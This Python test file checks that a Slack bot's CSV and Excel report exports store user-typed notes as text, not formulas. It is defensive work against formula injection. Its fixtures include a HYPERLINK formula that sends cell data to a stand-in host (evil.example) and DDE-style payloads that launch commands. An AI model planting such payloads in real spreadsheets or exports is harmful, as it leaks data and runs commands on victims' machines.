"""Exports leave the bot and are opened in Excel: people's text in them is text, never a formula
(issue 14 item 3). The one rule is bot.core.privacy.safe_cell (CSV) and xlsx_append (Excel)."""

from __future__ import annotations

import argparse
import csv
import io
from pathlib import Path
from typing import Any

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from bot.app.sandbox.harness import SAMPLE_ORG
from bot.core.directory import import_org
from bot.core.orgfile import load_org_file
from bot.core.privacy import FORMULA_STARTS, safe_cell
from bot.sampling.service import latest_draw
from tests.flows.test_sampling_flow import draw_now, import_cases, moderate, submit_audit
from tests.unit.test_themes import Q1, seed_audit, seed_standard_quarter

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Open")'
HOSTILE = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _cells(path: Path) -> list[Any]:
    book = load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _text_cell(path: Path, text: str) -> Any:
    found = [c for c in _cells(path) if c.value == text]
    assert found, f"{text!r} is not in {path.name}"
    return found[0]


# ---------------------------------------------------------------------------------------------
# the rule


def test_a_csv_cell_starting_with_a_formula_character_gets_a_leading_quote():
    for payload in HOSTILE:
        assert safe_cell(payload) == "'" + payload
    assert safe_cell("Direct work changed the plan") == "Direct work changed the plan"
    assert safe_cell("<5") == "<5" and safe_cell("") == ""


@given(st.text(alphabet=st.sampled_from(list(FORMULA_STARTS) + list("ab1 '\"\n,")), max_size=12))
def test_no_csv_cell_written_through_the_rule_starts_with_a_formula_character(text):
    cell = safe_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell in (text, "'" + text)
    out = io.StringIO()
    csv.writer(out).writerow([cell])
    parsed = next(csv.reader(io.StringIO(out.getvalue())))
    assert parsed == [cell] and not parsed[0].startswith(FORMULA_STARTS)


# ---------------------------------------------------------------------------------------------
# the random-sample report: notes typed in Slack, exported by `qmf-bot report sample`


def test_a_formula_typed_as_a_case_study_note_is_text_in_the_sample_xlsx_and_csv(
        bot, slack, fake, tmp_path, monkeypatch):
    from bot.app.cli import main

    import_cases(bot)
    draw_now(bot)
    with bot.rt.db.session() as session:
        row = latest_draw(session)
        assert row is not None
        case_id, qi, pc = next((c.id, c.pair.qi.slack_id, c.pair.pc.slack_id) for c in row.cases)
    assert submit_audit(slack, fake, qi, case_id, _grade("GOOD"), feedback=None, case_study=HYPERLINK).errors == {}
    assert submit_audit(slack, fake, pc, case_id, _grade("GOOD"), case_study="-1+1 shows the plan worked").errors == {}
    assert moderate(slack, fake, qi, case_id, _grade("GOOD")).errors == {}

    monkeypatch.setenv("DATABASE_URL", bot.database_url)
    monkeypatch.delenv("SLACK_BOT_TOKEN", raising=False)
    out = tmp_path / "sample.xlsx"
    assert main(["report", "sample", "--quarter", "2026-27 Q1", "--format", "xlsx", "--output", str(out)]) == 0
    for text in (HYPERLINK, "-1+1 shows the plan worked"):
        cell = _text_cell(out, text)
        assert cell.data_type == "s", f"{text!r} is stored as {cell.data_type!r}"
    assert not [c.coordinate for c in _cells(out) if c.data_type == "f"]

    csv_out = tmp_path / "sample.csv"
    assert main(["report", "sample", "--quarter", "2026-27 Q1", "--format", "csv", "--output", str(csv_out)]) == 0
    rows = list(csv.DictReader(io.StringIO(csv_out.read_text())))
    studies = [r["value"] for r in rows if r["section"] == "Case studies"]
    assert studies == ["'" + HYPERLINK, "'-1+1 shows the plan worked"]
    assert not [v for r in rows for v in r.values() if v.startswith(FORMULA_STARTS)]


def _grade(name: str) -> Any:
    from bot.core.grades import Grade

    return Grade[name]


# ---------------------------------------------------------------------------------------------
# the learning-themes report: "good practice to share", exported by `qmf-bot report themes`


def _themes_export(db: Any, database_url: str, tmp_path: Path, monkeypatch: Any, fmt: str) -> Path:
    from bot.app.cli_reports import report_themes

    with db.session() as s:
        import_org(s, load_org_file(SAMPLE_ORG))
        s.flush()
        seed_standard_quarter(s)
        seed_audit(s, quarter=Q1, service_key="cic", improve=["Risk and safety"], good_practice=HYPERLINK,
                   needed="@SUM(1+1) would have helped", wider="+ share the plan with partners")
    monkeypatch.setenv("DATABASE_URL", database_url)
    out = tmp_path / f"themes.{fmt}"
    assert report_themes(argparse.Namespace(quarter=Q1, service="cic", format=fmt, output=str(out))) == 0
    return out


def test_a_formula_typed_as_good_practice_is_text_in_the_themes_xlsx(db, database_url, tmp_path, monkeypatch):
    out = _themes_export(db, database_url, tmp_path, monkeypatch, "xlsx")
    for text in (HYPERLINK, "@SUM(1+1) would have helped", "+ share the plan with partners"):
        cell = _text_cell(out, text)
        assert cell.data_type == "s", f"{text!r} is stored as {cell.data_type!r}"
    assert not [c.coordinate for c in _cells(out) if c.data_type == "f"]


def test_a_formula_typed_as_good_practice_is_neutralised_in_the_themes_csv(db, database_url, tmp_path, monkeypatch):
    out = _themes_export(db, database_url, tmp_path, monkeypatch, "csv")
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    texts = {r["text"] for r in rows}
    assert {"'" + HYPERLINK, "'@SUM(1+1) would have helped", "'+ share the plan with partners"} <= texts
    assert not [v for r in rows for v in r.values() if v.startswith(FORMULA_STARTS)]
